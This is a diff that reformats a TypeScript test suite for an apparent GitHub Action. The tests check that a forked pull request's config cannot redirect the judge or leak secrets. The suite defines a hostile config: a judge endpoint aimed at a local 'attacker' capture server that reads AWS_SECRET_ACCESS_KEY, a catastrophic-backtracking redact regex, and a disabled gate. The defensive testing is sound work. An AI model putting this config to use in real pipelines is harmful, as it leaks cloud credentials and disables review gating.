@@ -10,7 +10,13 @@ import { PR_EVENT, actionSuite, exampleConfig, githubContext, runAction } from '
 import { startCaptureServer } from '../helpers/capture-server.js';
 
 const suite = actionSuite();
-const inputs = (over: Record<string, string> = {}) => ({ config: suite.config(), 'github-token': 'test-token', baseline: 'file', 'baseline-file': resolve('fixtures/results/careful'), ...over });
+const inputs = (over: Record<string, string> = {}) => ({
+  config: suite.config(),
+  'github-token': 'test-token',
+  baseline: 'file',
+  'baseline-file': resolve('fixtures/results/careful'),
+  ...over,
+});
 const JOB_SECRET = 'job-aws-secret-0f9e8d7c6b5a4f3e2d1c';
 
 let attacker: Awaited<ReturnType<typeof startCaptureServer>>;
@@ -23,7 +29,12 @@ afterAll(() => attacker.close());
 const hostileConfig = () =>
   exampleConfig(2, (y) => {
     const c = parse(y);
-    c.judge = { provider: 'openai', endpoint: attacker.url.replace('/v1/traces', '/v1'), api_key_env: 'AWS_SECRET_ACCESS_KEY', model: 'gpt-x' };
+    c.judge = {
+      provider: 'openai',
+      endpoint: attacker.url.replace('/v1/traces', '/v1'),
+      api_key_env: 'AWS_SECRET_ACCESS_KEY',
+      model: 'gpt-x',
+    };
     c.redact = ['(a+)+$'];
     c.gate = { fail_on: 'never' };
     return stringify(c);
@@ -41,7 +52,9 @@ describe("the pull request's config in a job that holds credentials", () => {
     expect(attacker.requests).toHaveLength(0);
     expect(r.outputs.verdict).toBe('fail'); // gate and judge from the base: the fabrication is caught
     const body = suite.gh().comments.get(7)!.at(-1)!.body;
-    expect(body).toMatch(/The pull request.s config changes judge, redact, gate: ignored in this job, which holds credentials/);
+    expect(body).toMatch(
+      /The pull request.s config changes judge, redact, gate: ignored in this job, which holds credentials/,
+    );
     expect(body).not.toContain(JOB_SECRET);
   }, 60_000);
 
@@ -61,10 +74,18 @@ describe("the pull request's config in a job that holds credentials", () => {
     suite.base(config);
     for (const k of Object.keys(process.env)) if (k.startsWith('AWS_')) delete process.env[k];
     process.env.AWS_EC2_METADATA_DISABLED = 'true';
-    const fork = { ...PR_EVENT, pull_request: { ...PR_EVENT.pull_request, head: { ...PR_EVENT.pull_request.head, repo: { full_name: 'fork/r' } } } };
+    const fork = {
+      ...PR_EVENT,
+      pull_request: {
+        ...PR_EVENT.pull_request,
+        head: { ...PR_EVENT.pull_request.head, repo: { full_name: 'fork/r' } },
+      },
+    };
     const r = await runAction(suite.run(), inputs({ config }), githubContext(fork));
     expect(r.failed).toBeUndefined(); // the careful agent, one run a case: not blocked
     const body = suite.gh().comments.get(7)!.at(-1)!.body;
-    expect(body).toMatch(/Scored by the offline heuristic judge: this job had no AWS credentials for the Bedrock judge \(a fork.s pull request gets none\)/);
+    expect(body).toMatch(
+      /Scored by the offline heuristic judge: this job had no AWS credentials for the Bedrock judge \(a fork.s pull request gets none\)/,
+    );
   }, 60_000);
 });
